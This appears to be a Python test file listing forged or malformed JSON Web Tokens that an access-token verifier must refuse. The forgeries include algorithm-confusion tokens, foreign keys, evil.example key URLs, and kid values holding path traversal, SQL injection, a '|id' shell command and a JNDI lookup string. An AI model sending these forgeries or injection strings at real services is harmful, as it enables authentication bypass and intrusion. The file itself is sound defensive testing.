"""Tokens that are none of ours: what has been shown to verifiers, by the classes of mistakes that let it in (T3.1).

Most are signed well, by us: then what is wrong with it is the only reason to refuse it. Among the classes are the
confusion of algorithms, keys and headers that a token brings itself, names that nearly are ours, values of another
type, JSON that two readers read differently, and text that is not the one form of its bytes.
"""

import hmac
import json
import warnings
from collections.abc import Mapping
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ec import ECDSA
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from joserfc import jws
from joserfc.jwk import ECKey, OKPKey, RSAKey

from taskbound.formats import jose
from taskbound.formats.jose import AccessToken
from tests.prover import Prover, part

ISSUER, AUDIENCE = "https://example.org", "https://example.org/abcdef"
OURS = Prover()
PUBLIC = jose.point_of({name: OURS.jwk[name] for name in ("kty", "crv", "x", "y")})
TOKEN = AccessToken(
    issuer=ISSUER,
    audience=AUDIENCE,
    subject="spiffe://example.org/human/alice",
    actor="spiffe://example.org/agent/support",
    act=("spiffe://example.org/agent/support", "spiffe://example.org/agent/boss"),
    org="main",
    task="t" + "a" * 20,
    id="j" + "a" * 20,
    issued=1_800_000_000,
    expires=1_800_000_300,
    jkt="0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I",
)
HEADER = {"typ": "at+jwt", "kid": OURS.jkt}


def claims(**changes):
    """The claims of TOKEN as they stand on the wire, with changes; None leaves one out."""
    text = jose.signing_input(TOKEN, PUBLIC).decode().split(".")[1]
    said = {**json.loads(jose.decode(text)), **changes}
    return {name: value for name, value in said.items() if value is not None}


_PEM = OURS.key.as_pem(private=False)


def hs(secret, size=256):
    """A token under a shared secret, which everybody has: our public key (the confusion of algorithms)."""
    signed = f"{part({'alg': f'HS{size}', **HEADER})}.{part(claims())}"
    return f"{signed}.{part(hmac.digest(secret, signed.encode(), f'sha{size}'))}"


def with_alg(alg, signature=b""):
    return f"{part({**HEADER, 'alg': alg})}.{part(claims())}.{part(signature) or 'AA'}"


def raw(header, payload, key=OURS):
    """A signed token of texts as they are: what no library writes."""
    signed = f"{part(header)}.{part(payload)}"
    r, s = decode_dss_signature(key.key.private_key.sign(signed.encode(), ECDSA(SHA256())))
    return f"{signed}.{part(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


GOOD = OURS.signed(HEADER, claims())
THEIRS = Prover()
_HEAD, _BODY, _SIGNATURE = GOOD.split(".")
TEXT = json.dumps(claims())
FIRST = json.dumps({"alg": "ES256", **HEADER})
NO_MOMENT: list[Any] = ["1800000000", 1_800_000_000.0, 1.8e9, -1, 10**15, 10**30, True, [1_800_000_000], {}]
NO_KEY: list[Any] = [{}, [], "x", {"jkt": 1}, {"jkt": ""}, {"jkt": TOKEN.jkt, "jwk": {}}]
REFUSED = {
    **{f"alg {alg}": with_alg(alg) for alg in ("none", "None", "nOnE", "", "ES256K", "ES384", "RS256", "es256")},
    **{f"alg {alg!r}": with_alg(alg) for alg in (None, 1, True, ["ES256"], {"ES256": 1})},
    "alg none, a good signature": with_alg("none", jose.decode(_SIGNATURE)),
    "no alg": raw(json.dumps(HEADER), TEXT),
    "their key": THEIRS.signed(HEADER, claims()),
    "their key and kid": THEIRS.signed({**HEADER, "kid": THEIRS.jkt}, claims()),
    "jwk in the header": THEIRS.signed({**HEADER, "jwk": dict(THEIRS.jwk)}, claims()),
    "jku": OURS.signed({**HEADER, "jku": "https://evil.example/keys"}, claims()),
    "x5u": OURS.signed({**HEADER, "x5u": "https://evil.example/cert"}, claims()),
    "x5c": OURS.signed({**HEADER, "x5c": ["AAAA"]}, claims()),
    "crit": raw(json.dumps({"alg": "ES256", **HEADER, "crit": ["exp"]}), TEXT),
    "crit of what it has": raw(json.dumps({"alg": "ES256", **HEADER, "crit": ["kid"]}), TEXT),
    "b64 false": raw(json.dumps({"alg": "ES256", **HEADER, "b64": False, "crit": ["b64"]}), TEXT),
    "zip": OURS.signed({**HEADER, "zip": "DEF"}, claims()),
    "cty nested": OURS.signed({**HEADER, "cty": "JWT"}, claims()),
    "no kid": OURS.signed({"typ": "at+jwt"}, claims()),
    **{
        f"kid {kid!r}": raw(json.dumps({"alg": "ES256", "typ": "at+jwt", "kid": kid}), TEXT)
        for kid in ("../../token.pem", "' OR 1=1 --", "", 0, None)
    },
    **{  # the key is new in each process, and a test is called the same in all of them
        f"kid {name}": raw(json.dumps({"alg": "ES256", "typ": "at+jwt", "kid": kid}), TEXT)
        for name, kid in {
            "in a list": [OURS.jkt], "and a zero": OURS.jkt + "\x00", "in capitals": OURS.jkt.upper(),
        }.items()
    },
    "no typ": OURS.signed({"kid": OURS.jkt}, claims()),
    **{
        f"typ {typ!r}": raw(json.dumps({"alg": "ES256", "kid": OURS.jkt, "typ": typ}), TEXT)
        for typ in ("JWT", "dpop+jwt", "AT+JWT", "application/at+jwt", "at+jwt ", ["at+jwt"], None)
    },
    **{f"without {name}": OURS.signed(HEADER, claims(**{name: None})) for name in claims() if name != "act"},
    **{
        f"aud {aud!r}": OURS.signed(HEADER, claims(aud=aud))
        for aud in (
            [AUDIENCE], [AUDIENCE, "https://evil.example"], AUDIENCE + "/", AUDIENCE[:-1], AUDIENCE.upper(), "",
            AUDIENCE + ".", " " + AUDIENCE, AUDIENCE.replace("c", "с"), {"aud": AUDIENCE}, ISSUER, 1,
        )
    },
    **{
        f"iss {iss!r}": OURS.signed(HEADER, claims(iss=iss))
        for iss in ("https://evil.example", ISSUER + "/", "http://example.org", [ISSUER], "https://example.org.")
    },
    **{
        f"{name} {value!r}": OURS.signed(HEADER, claims(**{name: value}))
        for name in ("iat", "exp")
        for value in NO_MOMENT
    },
    "exp is huge": raw(FIRST, TEXT.replace("1800000300", "1" * 5000)),
    "exp is infinite": raw(FIRST, TEXT.replace("1800000300", "Infinity")),
    "exp is 1e400": raw(FIRST, TEXT.replace("1800000300", "1e400")),
    "longer than 300 s": OURS.signed(HEADER, claims(exp=1_800_000_301)),
    "no life": OURS.signed(HEADER, claims(exp=1_800_000_000)),
    "a life that runs back": OURS.signed(HEADER, claims(exp=1_799_999_999)),
    **{f"cnf {cnf!r}": OURS.signed(HEADER, claims(cnf=cnf)) for cnf in NO_KEY},
    "act is no object": OURS.signed(HEADER, claims(act=["x"])),
    "act without sub": OURS.signed(HEADER, claims(act={"act": {"sub": "x"}})),
    "act with more": OURS.signed(HEADER, claims(act={"sub": "x", "iss": "y"})),
    "act too deep": OURS.signed(HEADER, claims(act=json.loads('{"sub":"x","act":' * 9 + '{"sub":"x"}' + "}" * 9))),
    "another claim": OURS.signed(HEADER, claims(scope="admin")),
    "nbf": OURS.signed(HEADER, claims(nbf=0)),
    "task is a list": OURS.signed(HEADER, claims(task=[TOKEN.task])),
    "a claim twice": raw(FIRST, TEXT[:-1] + ', "task": "tother"}'),
    "a member of the header twice": raw(FIRST[:-1] + ', "alg": "none"}', TEXT),
    "a lone surrogate": raw(FIRST, TEXT.replace("main", "\\ud800")),
    "not UTF-8": raw(FIRST, TEXT.encode().replace(b"main", b"\xff\xfe")),
    "BOM": raw(FIRST, "\ufeff" + TEXT),
    "UTF-16": raw(FIRST, TEXT.encode("utf-16")),
    "a list": OURS.signed(HEADER, json.dumps([claims()])),
    "a text": OURS.signed(HEADER, '"x"'),
    "nested deep": raw(FIRST, '{"a":' * 500 + "1" + "}" * 500),
    "nested beyond the stack": raw(FIRST, "[" * 3000),
    "a header of 1 MB": f"{'A' * (1 << 20)}.{_BODY}.{_SIGNATURE}",
    "more than 8 KiB": OURS.signed(HEADER, claims(task="t" * 9000)),
    "padded": f"{_HEAD}==.{_BODY}.{_SIGNATURE}",
    "whitespace": f"{_HEAD}.{_BODY} .{_SIGNATURE}",
    "newline": f"{GOOD}\n",
    "plain base64": f"{_HEAD}.{_BODY}.{'+/' + _SIGNATURE[2:]}",
    "four parts": f"{GOOD}.AAAA",
    "two parts": f"{_HEAD}.{_BODY}",
    "no signature": f"{_HEAD}.{_BODY}.",
    "five parts, encrypted": f"{_HEAD}.AAAA.AAAA.AAAA.AAAA",
    "a signature of zeros": f"{_HEAD}.{_BODY}.{part(bytes(64))}",
    "r is zero": f"{_HEAD}.{_BODY}.{part(bytes(32) + jose.decode(_SIGNATURE)[32:])}",
    "s is zero": f"{_HEAD}.{_BODY}.{part(jose.decode(_SIGNATURE)[:32] + bytes(32))}",
    "a short signature": f"{_HEAD}.{_BODY}.{part(jose.decode(_SIGNATURE)[:63])}",
    "a long signature": f"{_HEAD}.{_BODY}.{part(jose.decode(_SIGNATURE) + b'x')}",
    "a signature in DER": f"{_HEAD}.{_BODY}.{part(bytes.fromhex('3006020101020101'))}",
    "another's body": f"{_HEAD}.{part(claims(task='t' + 'b' * 20))}.{_SIGNATURE}",
    "idle bits": GOOD[:-1] + chr(ord(GOOD[-1]) + 1),
    "nothing": "",
    "dots": "..",
}  # fmt: skip

# Families of keys and of algorithms, each of which really signed what it is shown with.
_RSA, _P384, _P521 = RSAKey.generate_key(2048), ECKey.generate_key("P-384"), ECKey.generate_key("P-521")
_K256, _ED = ECKey.generate_key("secp256k1"), OKPKey.generate_key("Ed25519")
_ANY = jws.JWSRegistry(
    algorithms=[
        "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES384", "ES512", "ES256K", "EdDSA",
    ],
    strict_check_header=False,
)  # fmt: skip


def signed_by(key, alg, header=HEADER):
    """A token under another algorithm, well signed."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return jws.serialize_compact({"alg": alg, **header}, json.dumps(claims()), key, registry=_ANY)


def under(signed, alg):
    """The same signature, shown as one of another algorithm."""
    head, body, signature = signed.split(".")
    return f"{part({**json.loads(jose.decode(head)), 'alg': alg})}.{body}.{signature}"


_PUBLIC_TEXTS = {
    "PEM": _PEM,
    "PEM without its last line end": _PEM.strip(),
    "DER": OURS.key.as_der(private=False),
    "point": PUBLIC,
    "x": PUBLIC[1:33],
    "JWK": json.dumps(dict(OURS.jwk)).encode(),
    "key set": json.dumps(jose.key_set(PUBLIC)).encode(),
    "kid": OURS.jkt.encode(),
}
_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # the order of P-256
_R, _S = jose.decode(_SIGNATURE)[:32], jose.decode(_SIGNATURE)[32:]


def with_signature(signature):
    return f"{_HEAD}.{_BODY}.{part(signature)}"


def head(**members):
    """A token that we signed, under a header of these members; None leaves one out."""
    said = {"alg": "ES256", **HEADER, **members}
    return raw(json.dumps({name: value for name, value in said.items() if value is not None}), TEXT)


_NO_TEXT: list[Any] = [1, True, [], {}, "", None]
_NEARLY = {  # our host, and before each {} the path
    "a port": "https://example.org:443{}", "capitals": "https://EXAMPLE.org{}", "plain": "http://example.org{}",
    "somebody": "https://x@example.org{}", "a dot": "https://example.org.{}", "below it": "https://a.example.org{}",
    "above it": "https://org{}", "behind it": "https://example.org.evil.example{}", "no scheme": "example.org{}",
    "punycode": "https://xn--exmple-cua.org{}", "a Cyrillic letter": "https://ex\u0430mple.org{}",
    "full width": "https://example\uff0eorg{}", "other slashes": "https:\\\\example.org{}",
    "a byte more": "https://example.org\x00{}", "a line more": "https://example.org{}\n",
    "a query": "https://example.org{}?",
    "a fragment": "https://example.org{}#", "a space": "https://example.org{} ",
}  # fmt: skip
_PATHS = ("", "/*", "/abcde", "/abcdefg", "//abcdef", "/./abcdef", "/x/../abcdef", "/%61bcdef", "/ABCDEF", "/ghijkl")
_HEADER_MEMBERS: Mapping[str, Any] = {
    "jwk": {}, "jku": "", "x5t": "AAAA", "x5t#S256": "AAAA", "epk": dict(OURS.jwk), "apu": "AAAA", "apv": "AAAA",
    "tag": "AAAA",
    "p2c": 1 << 31, "p2s": "AAAA", "iv": "AAAA", "enc": "A256GCM", "url": ISSUER, "nonce": "n", "iss": ISSUER,
    "svt": "x",
    "trust_chain": [], "cty": "at+jwt", "ppt": "shaken", "__proto__": {"alg": "ES256"}, "": "",
}  # fmt: skip
_CRITS: list[Any] = [
    [],
    ["alg"],
    ["typ"],
    ["b64"],
    ["http://example.org/x"],
    ["exp", "exp"],
    [1],
    "kid",
    {},
    True,
    [""],
]
_KIDS: Mapping[str, Any] = {
    "an address": "https://evil.example/key", "a file": "file:///dev/null", "a path": "/proc/self/environ",
    "theirs": THEIRS.jkt,
    "padded": OURS.jkt + "=", "with a space": OURS.jkt + " ", "an object": {"kid": OURS.jkt}, "a command": "|id",
    "a template": "${jndi:ldap://evil.example}", "long": OURS.jkt * 100, "half": OURS.jkt[:21],
}  # fmt: skip
_TYPS: list[Any] = [
    "jwt", "id_token+jwt", "logout+jwt", "secevent+jwt", "token-introspection+jwt", "oauth-id-jag+jwt", "wit+jwt",
    "JOSE",
    "at+jwt;v=1", "at+JWT", "x/at+jwt", "", 1, {}, True,
]  # fmt: skip
_ACTS: list[Any] = [
    {}, "x", 1, True, {"sub": 1}, {"sub": ""}, {"sub": ["x"]}, {"sub": "x", "act": "y"}, {"sub": "x", "act": []},
    {"sub": "x", "act": {}}, {"act": "x"}, {"sub": "x", "act": {"sub": "y", "client_id": "z"}},
]  # fmt: skip
_CNFS: Mapping[str, Any] = {
    "null": {"jkt": None}, "a list": [{"jkt": TOKEN.jkt}], "in a list": {"jkt": [TOKEN.jkt]},
    "a name": {"kid": TOKEN.jkt},
    "two": {"jkt": TOKEN.jkt, "kid": "x"}, "of a certificate": {"x5t#S256": TOKEN.jkt},
    "a key": {"jwk": dict(THEIRS.jwk)},
    "both": {"jkt": TOKEN.jkt, "x5t#S256": TOKEN.jkt},
}  # fmt: skip
_CLAIMS: Mapping[str, Any] = {
    "admin": True, "roles": ["admin"], "scp": "admin", "groups": [], "authorization_details": [], "may_act": {},
    "azp": "x",
    "permissions": ["*"], "nonce": "n", "__proto__": {}, "vct": "x",
}  # fmt: skip
_MARKS = {
    "a space": " ", "a tab": "\t", "CRLF": "\r\n", "a zero byte": "\x00", "a dot": ".", "a zero width": "\u200b",
    "a percent": "%2e",
    "BOM": "\ufeff",
}  # fmt: skip
_OTHERS = [
    *((_RSA, alg) for alg in ("RS256", "RS384", "RS512", "PS256", "PS384", "PS512")),
    (_P384, "ES384"), (_P521, "ES512"), (_K256, "ES256K"), (_ED, "EdDSA"),
]  # fmt: skip

REFUSED |= {
    # Algorithms and keys
    **{f"well signed by {alg}": signed_by(key, alg) for key, alg in _OTHERS},
    **{f"{alg} shown as ES256": under(signed_by(key, alg), "ES256") for key, alg in _OTHERS},
    **{f"ours shown as {alg}": under(GOOD, alg) for alg in ("ES384", "ES512", "ES256K", "EdDSA", "HS256", "RS256")},
    **{
        f"HS{size} with our {name}": hs(secret, size)
        for size in (256, 384, 512)
        for name, secret in _PUBLIC_TEXTS.items()
    },
    "EdDSA, a point of small order": with_alg("EdDSA", bytes([1, *bytes(63)])),
    # What a header brings
    "jwk of ours in the header": head(jwk=dict(OURS.jwk)),
    **{f"{name} in the header": head(**{name: value}) for name, value in _HEADER_MEMBERS.items()},
    **{f"crit is {crit!r}": head(crit=crit) for crit in _CRITS},
    **{f"kid is {name}": head(kid=kid) for name, kid in _KIDS.items()},
    **{f"typ is {typ!r}": head(typ=typ) for typ in _TYPS},
    # What it says, well signed
    **{
        f"{name} is {value!r}": OURS.signed(HEADER, json.dumps({**claims(), name: value}))
        for name in ("iss", "aud", "sub", "client_id", "org", "task", "jti")
        for value in _NO_TEXT
    },
    **{f"aud with {name}": OURS.signed(HEADER, claims(aud=form.format("/abcdef"))) for name, form in _NEARLY.items()},
    **{f"iss with {name}": OURS.signed(HEADER, claims(iss=form.format(""))) for name, form in _NEARLY.items()},
    **{f"aud of the path {path!r}": OURS.signed(HEADER, claims(aud=f"{ISSUER}{path}")) for path in _PATHS},
    "a foreign issuer with our subject": THEIRS.signed(HEADER, claims(iss="https://evil.example")),
    "a foreign trust domain": THEIRS.signed(HEADER, claims(sub="spiffe://evil.example/human/alice")),
    **{
        f"{name} is {value!r}": OURS.signed(HEADER, claims(**{name: value}))
        for name in ("iat", "exp")
        for value in (1.5, "2027-01-15T08:00:00Z", "", "0x6b49d200", 2**31, 2**63, 253_402_300_800, False)
    },
    **{
        f"exp is {text}": raw(FIRST, TEXT.replace("1800000300", text))
        for text in (
            "null",
            "NaN",
            "-Infinity",
            "18000003e2",
            "1800000300.0",
            "01800000300",
            "+1800000300",
            "0x6b49d32c",
        )
    },
    **{f"act is {act!r}": OURS.signed(HEADER, claims(act=act)) for act in _ACTS},
    **{f"cnf is {name}": OURS.signed(HEADER, claims(cnf=cnf)) for name, cnf in _CNFS.items()},
    **{f"another claim, {name}": OURS.signed(HEADER, claims(**{name: value})) for name, value in _CLAIMS.items()},
    # JSON that two readers read differently, or that is none
    "cnf twice": raw(FIRST, TEXT[:-1] + f', "cnf": {{"jkt": "{TOKEN.jkt}"}}}}'),
    "jkt twice": raw(FIRST, TEXT.replace('{"jkt": ', '{"jkt": "x", "jkt": ')),
    "sub of act twice": raw(FIRST, TEXT.replace('{"sub": ', '{"sub": "x", "sub": ', 1)),
    "a claim twice, once escaped": raw(FIRST, TEXT[:-1] + ', "\\u0074ask": "tother"}'),
    "alg twice, equal": raw(FIRST[:-1] + ', "alg": "ES256"}', TEXT),
    "kid twice": raw(FIRST[:-1] + f', "kid": "{OURS.jkt}"}}', TEXT),
    "a comment": raw(FIRST, TEXT[:-1] + "/* */}"),
    "a comma more": raw(FIRST, TEXT[:-1] + ",}"),
    "single quotes": raw(FIRST, TEXT.replace('"', "'")),
    "two values": raw(FIRST, TEXT + TEXT),
    "cut short": raw(FIRST, TEXT[:-1]),
    "a zero byte behind": raw(FIRST, TEXT + "\x00"),
    "UTF-32": raw(FIRST, TEXT.encode("utf-32")),
    "UTF-16 without BOM": raw(FIRST, TEXT.encode("utf-16-le")),
    "an overlong slash": raw(FIRST, TEXT.encode().replace(b"/abcdef", b"\xc0\xafabcdef")),
    "a surrogate in UTF-8": raw(FIRST, TEXT.encode().replace(b'"main"', b'"\xed\xa0\x80"')),
    "a header that is a list": raw("[]", TEXT),
    "a header that is a text": raw('"ES256"', TEXT),
    "an empty header": raw("{}", TEXT),
    "an empty payload": raw(FIRST, "{}"),
    "null": raw(FIRST, "null"),
    # Forms
    "nothing as payload": f"{_HEAD}..{_SIGNATURE}",
    "nothing as header": f".{_BODY}.{_SIGNATURE}",
    "encrypted, compressed": f"{part({'alg': 'dir', 'enc': 'A256GCM', 'zip': 'DEF'})}..AAAA.{part(bytes(4096))}.AAAA",
    "JSON, flattened": json.dumps({"protected": _HEAD, "payload": _BODY, "signature": _SIGNATURE}),
    "JSON, general": json.dumps({"payload": _BODY, "signatures": [{"protected": _HEAD, "signature": _SIGNATURE}]}),
    "a token within a token": OURS.signed(HEADER, GOOD),
    **{
        f"{name} {where}": text
        for name, mark in _MARKS.items()
        for where, text in (
            ("before", mark + GOOD),
            ("behind", GOOD + mark),
            ("within", GOOD.replace(_BODY, _BODY[:9] + mark + _BODY[9:])),
        )
    },
    "padded at its end": f"{GOOD}==",
    "wide dots": GOOD.replace(".", "\uff0e"),
    "in capitals": GOOD.upper(),
    "with its scheme": f"DPoP {GOOD}",
    "in quotes": f'"{GOOD}"',
    "two tokens": f"{GOOD},{GOOD}",
    "the header's idle bits": f"{_HEAD[:-1] + chr(ord(_HEAD[-1]) + 1)}.{_BODY}.{_SIGNATURE}",
    # Signatures
    "r is the order": with_signature(_N.to_bytes(32, "big") + _S),
    "s is the order": with_signature(_R + _N.to_bytes(32, "big")),
    "all ones": with_signature(b"\xff" * 64),
    "one and one": with_signature((1).to_bytes(32, "big") * 2),
    "s before r": with_signature(_S + _R),
    "r twice": with_signature(_R + _R),
    "its own signature in DER": with_signature(encode_dss_signature(*(int.from_bytes(one, "big") for one in (_R, _S)))),
    "as long as of P-384": with_signature(bytes(16) + _R + bytes(16) + _S),
    "twice the signature": with_signature((_R + _S) * 2),
}
